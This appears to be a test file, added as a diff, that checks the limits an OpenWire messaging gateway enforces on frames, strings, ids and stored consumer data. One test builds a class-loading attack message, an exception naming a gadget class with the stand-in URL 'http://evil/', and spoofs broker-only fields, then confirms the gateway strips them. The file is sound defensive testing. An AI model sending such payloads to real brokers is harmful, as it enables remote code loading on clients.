@@ -1,0 +1,136 @@
+"""What a client of OpenWire cannot make the gateway do, keep or pass on, whatever it sends."""
+
+from __future__ import annotations
+
+import pytest
+
+from protocols.openwire.errors import FrameError, FrameTooLarge
+from protocols.openwire.wire.commands import (
+    BrokerInfo,
+    ConnectionInfo,
+    ConsumerInfo,
+    ExceptionResponse,
+    SessionInfo,
+    Structure,
+    WireFormatInfo,
+)
+from protocols.openwire.wire.frame_decoder import COMMAND_BYTES_MAX, FrameDecoder
+from protocols.openwire.wire.identities import (
+    BrokerId,
+    ConnectionId,
+    ConsumerId,
+    LocalTransactionId,
+    SessionId,
+    Throwable,
+)
+from protocols.openwire.wire.layouts import ELEMENTS_MAX
+from protocols.openwire.wire.messages import TextMessage
+from protocols.openwire.wire.reader import decode
+from protocols.openwire.wire.writer import encode, encode_structure
+from tests.support.protocols.openwire_gateway import OpenWireGateway, message_in, queue
+
+ASTRAL = "\U0001f600".encode()
+
+
+@pytest.mark.parametrize("size", [70_000, 300_000])
+@pytest.mark.parametrize("step", [1_000, 65_536])
+def test_a_large_frame_in_parts(size: int, step: int) -> None:
+    small = encode(SessionInfo(7, session_id=SessionId("c", 1)))
+    large = encode(TextMessage(content=bytes(size)))
+    octets = small + large + large + small
+    decoder = FrameDecoder(1 << 20)
+    frames = []
+    for start in range(0, len(octets), step):
+        decoder.receive_data(octets[start : start + step])
+        while (frame := decoder.next_frame()) is not None:
+            frames.append(frame)
+            assert decoder.partial_number() in (0, len(frames) + 1)
+    assert frames == [small[4:], large[4:], large[4:], small[4:]]
+    assert decoder.buffered_bytes() == 0
+
+
+def test_the_parts_of_a_large_frame_are_counted() -> None:
+    decoder = FrameDecoder(1 << 20)
+    large = encode(TextMessage(content=bytes(200_000)))
+    decoder.receive_data(large[:90_000])
+    assert decoder.next_frame() is None
+    assert decoder.buffered_bytes() == 90_000 - 4
+    decoder.receive_data(large[90_000:100_000])
+    assert decoder.buffered_bytes() == 100_000 - 4
+    assert decoder.partial_number() == 1
+    decoder.drop()
+    assert decoder.buffered_bytes() == 0
+
+
+def test_only_messages_may_be_large() -> None:
+    command = encode(ConsumerInfo(additional_predicate=WireFormatInfo(marshalled_properties=bytes(COMMAND_BYTES_MAX))))
+    decoder = FrameDecoder(100 << 20, COMMAND_BYTES_MAX)
+    decoder.receive_data(command[:4])
+    assert decoder.next_frame() is None
+    decoder.receive_data(command[4:5])
+    with pytest.raises(FrameTooLarge):
+        decoder.next_frame()
+
+
+def test_a_command_has_few_elements() -> None:
+    def info(count: int) -> bytes:
+        return encode_structure(ConsumerInfo(broker_path=[BrokerId("b")] * count, network_consumer_path=[]))
+
+    decode(info(ELEMENTS_MAX))
+    with pytest.raises(FrameError, match="elements"):
+        decode(info(ELEMENTS_MAX + 1))
+    inner = BrokerInfo(peer_broker_infos=[BrokerInfo()] * (ELEMENTS_MAX // 2))
+    with pytest.raises(FrameError, match="elements"):
+        decode(encode_structure(BrokerInfo(peer_broker_infos=[inner] * 2)))
+
+
+@pytest.mark.parametrize("octets", [ASTRAL * 16_000, b"\0" * 60_000])
+def test_a_string_that_cannot_be_written_again(octets: bytes) -> None:
+    field = b"\1" + len(octets).to_bytes(2, "big") + octets
+    with pytest.raises(FrameError, match="modified"):
+        decode(b"\x04\0\0\0\1\1" + b"\1\x79" + field + bytes(8))
+    short = b"\1" + (4 * 1_000).to_bytes(2, "big") + octets[:4_000]
+    found = decode(b"\x04\0\0\0\1\1" + b"\1\x79" + short + bytes(8))
+    assert isinstance(found, SessionInfo)
+    encode(found)
+
+
+def test_a_message_brings_nothing_that_only_brokers_say() -> None:
+    """A structure within a message may name a class, which an old client of the receiver would load."""
+    gateway = OpenWireGateway()
+    receiver = gateway.openwire_consumer(queue("q"))
+    sender = gateway.connect_openwire()
+    attack = ExceptionResponse(exception=Throwable("org.example.Gadget", "http://evil/"))
+    sender.publish(
+        queue("q"),
+        "x",
+        data_structure=attack,
+        target_consumer_id=ConsumerId("x", 1, 1),
+        original_transaction_id=LocalTransactionId(1, ConnectionId("x")),
+        broker_path=[BrokerId("b")],
+        cluster=[BrokerId("b")],
+        user_id="root",
+    )
+    assert b"Gadget" not in receiver.octets
+    (dispatch,) = receiver.dispatches()
+    found = message_in(dispatch)
+    assert (found.data_structure, found.target_consumer_id, found.original_transaction_id) == (None, None, None)
+    assert (found.broker_path, found.cluster, found.user_id) == (None, None, None)
+
+
+@pytest.mark.parametrize(("connection_id", "client_id"), [("c" * 1_001, "c"), ("c", "c" * 1_001)])
+def test_ids_of_connections_are_short(connection_id: str, client_id: str) -> None:
+    peer = OpenWireGateway().negotiated()
+    found = peer.refused(ConnectionInfo(connection_id=ConnectionId(connection_id), client_id=client_id))
+    assert "1001 characters, the limit is 1000" in found.message
+    assert peer.is_closed
+
+
+def test_nothing_but_what_is_used_is_kept_of_a_consumer() -> None:
+    gateway = OpenWireGateway()
+    peer = gateway.connect_openwire()
+    large: list[Structure] = [WireFormatInfo(marshalled_properties=bytes(100_000))]
+    peer.consume(queue("q"), additional_predicate=large[0], client_id="c" * 60_000)
+    assert b"c" * 60_000 not in peer.octets
+    held = peer.session.receivers.open[peer.consumer_id()].info
+    assert (held.additional_predicate, held.client_id) == (None, None)
